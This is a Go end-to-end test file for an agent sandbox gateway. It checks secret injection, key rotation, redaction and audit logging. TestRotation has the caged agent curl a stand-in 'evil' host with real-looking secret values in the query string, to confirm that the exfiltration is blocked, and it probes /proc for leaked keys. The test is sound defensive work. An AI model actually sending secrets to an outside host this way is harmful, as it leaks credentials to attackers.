//go:build linux

package e2e

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const (
	firstKey  = "first-real-value-7Qm2Vx9Kp4"
	secondKey = "second-real-value-5Nb8Rj2Lq6"
)

// loop is an agent that runs on: it makes one request for every line that it is
// given, and writes the answer on a line.
type loop struct {
	t     *testing.T
	c     *exec.Cmd
	in    io.WriteCloser
	out   *bufio.Reader
	errs  bytes.Buffer
	ended bool
}

func startLoop(b *bench, flags []string, command string) *loop {
	b.t.Helper()
	args := append([]string{"run", "-c", "cage.yaml"}, flags...)
	l := &loop{t: b.t, c: exec.Command(bin, append(args, "--", "sh", "-c", `while read x; do printf "%s\n" "$(`+command+`)"; done; echo bye`)...)}
	l.c.Dir, l.c.Env, l.c.Stderr = b.dir, b.env, &l.errs
	var err error
	l.in, err = l.c.StdinPipe()
	must(b.t, err)
	out, err := l.c.StdoutPipe()
	must(b.t, err)
	l.out = bufio.NewReader(out)
	must(b.t, l.c.Start())
	b.t.Cleanup(func() {
		if !l.ended {
			_ = l.c.Process.Kill()
			_ = l.c.Wait()
		}
	})
	return l
}

func (l *loop) ask(line string) string {
	l.t.Helper()
	_, err := fmt.Fprintln(l.in, line)
	must(l.t, err)
	timer := time.AfterFunc(patience, func() { _ = l.c.Process.Kill() })
	defer timer.Stop()
	answer, err := l.out.ReadString('\n')
	if err != nil {
		l.t.Fatalf("the agent ended: %v %s", err, clip(l.errs.String()))
	}
	return answer
}

func (l *loop) end() {
	l.t.Helper()
	l.in.Close()
	rest, _ := io.ReadAll(l.out)
	l.ended = true
	if err := l.c.Wait(); err != nil || string(rest) != "bye\n" {
		l.t.Errorf("the agent ended with %v %q: %s", err, rest, clip(l.errs.String()))
	}
}

// withStore gives a bench a store of its own outside of the cage.
func withStore(b *bench) {
	dir := filepath.Dir(b.state)
	b.env = append(b.env, "XDG_DATA_HOME="+filepath.Join(dir, "data"), "XDG_CONFIG_HOME="+filepath.Join(dir, "config"))
}

// put sets a secret from a pipe.
func (b *bench) put(name, value string) result {
	b.t.Helper()
	c := exec.Command(bin, "secret", "set", "e2e", name)
	c.Dir, c.Env, c.Stdin = b.dir, b.env, strings.NewReader(value+"\n")
	var out, errs bytes.Buffer
	c.Stdout, c.Stderr = &out, &errs
	_ = c.Run() // its code is looked at
	return result{c.ProcessState.ExitCode(), out.String(), errs.String()}
}

// TestRotation changes secrets of a cage that runs: the next request has the new
// value, and the old one is redacted and blocked as before.
func TestRotation(t *testing.T) {
	need(t, "curl")
	b, s := newBench(t), newSite(t)
	b.s = s
	withStore(b)
	b.write("cage.yaml", s.config(llm, evil)+"    "+llm+`: 127.0.0.1
secret_injection:
  - {env: API_KEY, inject_to: [`+llm+`]}
  - {env: OTHER_KEY, inject_to: [`+llm+`], inject_headers: [X-Other]}
`)
	b.put("OTHER_KEY", "another-real-value-1Df4Ys").ok(t, "OTHER_KEY")
	b.put("API_KEY", firstKey).ok(t, "API_KEY")
	l := startLoop(b, nil, `curl -sS -H "Authorization: Bearer $API_KEY" -H "X-Other: $OTHER_KEY" $x`)
	sent := func() string {
		got := s.received(llm)
		if len(got) == 0 {
			return "nothing"
		}
		last := got[len(got)-1].Header
		return last.Get("Authorization") + " " + last.Get("X-Other")
	}
	url := s.url("https", llm, "/")
	if l.ask(url); sent() != "Bearer "+firstKey+" another-real-value-1Df4Ys" {
		t.Errorf("the server received %q", sent())
	}
	for file, what := range map[string]string{"environ": "environment", "cmdline": "arguments"} {
		own, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", l.c.Process.Pid, file))
		if strings.Contains(string(own), firstKey) {
			t.Errorf("the gateway's %s hold the value (%v)", what, err)
		}
	}
	if mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", l.c.Process.Pid)); (err == nil) != (os.Geteuid() == 0) {
		t.Errorf("the gateway's memory: %v", err)
	} else if err == nil {
		mem.Close()
	}

	r := b.put("API_KEY", secondKey)
	r.ok(t, "API_KEY")
	if !strings.Contains(r.stderr, "in use by 1 running gateway") {
		t.Errorf("stderr %s", r.stderr)
	}
	if l.ask(url); sent() != "Bearer "+secondKey+" another-real-value-1Df4Ys" {
		t.Errorf("after the rotation the server received %q", sent())
	}
	for _, old := range []string{firstKey, secondKey} {
		if got := l.ask(s.url("https", evil, "/?q="+old)); !strings.Contains(got, `"blocked": true`) {
			t.Errorf("%s may leave: %s", old, got)
		}
	}
	n := len(s.received(llm))
	b.agentcage("secret", "rm", "e2e", "API_KEY").ok(t, "removed")
	if got := l.ask(url); !strings.Contains(got, "secret API_KEY has no value") || len(s.received(llm)) != n {
		t.Errorf("after the removal: %s", got)
	}
	b.put("API_KEY", firstKey).ok(t, "API_KEY")
	if l.ask(url); sent() != "Bearer "+firstKey+" another-real-value-1Df4Ys" {
		t.Errorf("after it was set again the server received %q", sent())
	}
	l.end()
	log := auditText(t, b)
	if strings.Contains(log, firstKey) || strings.Contains(log, secondKey) || !strings.Contains(log, `"secrets_injected": ["API_KEY", "OTHER_KEY"]`) {
		t.Errorf("the audit log: %s", clip(log))
	}
	s.untouched(t, evil)
}

// TestSecretFlag is a secret that no config knows, from a variable.
func TestSecretFlag(t *testing.T) {
	need(t, "curl")
	b, s := newBench(t), newSite(t)
	b.s = s
	withStore(b)
	b.write("cage.yaml", s.config(llm)+"    "+llm+": 127.0.0.1\n")
	b.env = append(b.env, "MY_KEY="+firstKey)
	r := b.cagedWith([]string{"--secret", "API_KEY@" + llm + "=env:MY_KEY"}, "sh", "-c", `env; curl -sS -H "X-Api-Key: $API_KEY" `+s.url("https", llm, "/"))
	r.ok(t, "API_KEY=agentcage:secret:API_KEY:")
	if strings.Contains(r.all(), firstKey) || strings.Contains(r.stdout, "MY_KEY") {
		t.Errorf("the cage has the value: %s", clip(r.all()))
	}
	if got := s.received(llm); len(got) != 1 || got[0].Header.Get("X-Api-Key") != firstKey {
		t.Errorf("the server received %+v", got)
	}
}
